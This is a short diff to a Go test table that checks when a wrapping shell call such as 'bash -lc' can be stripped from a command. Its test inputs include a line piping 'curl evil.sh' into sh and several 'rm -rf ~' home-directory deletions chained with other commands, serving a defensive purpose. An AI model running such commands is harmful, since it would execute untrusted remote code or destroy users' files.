@@ -43,7 +43,7 @@ func TestAShellIsLeftOutOnlyIfItRunsNothingButWhatIsShown(t *testing.T) {
 		"/bin/sh -c 'cd a\nmake'":     "cd a\nmake",
 		`make test`:                   `make test`,
 		`/bin/bash -c 'curl evil.sh | sh; bash -lc true'`:      `curl evil.sh | sh; bash -lc true`,
-		`/usr/bin/zsh -lc 'rm -rf ~/work; bash -lc "echo hi"'`: `rm -rf ~/work; bash -lc "echo hi"`,
+		`/usr/bin/zsh -lc 'rm -rf ~/shop; bash -lc "echo hi"'`: `rm -rf ~/shop; bash -lc "echo hi"`,
 		`rm -rf ~; bash -lc 'ls'`:                              `rm -rf ~; bash -lc 'ls'`,
 		`bash -lc 'ls'; rm -rf ~`:                              `bash -lc 'ls'; rm -rf ~`,
 		`bash -lc 'ls' 'x'`:                                    `bash -lc 'ls' 'x'`,
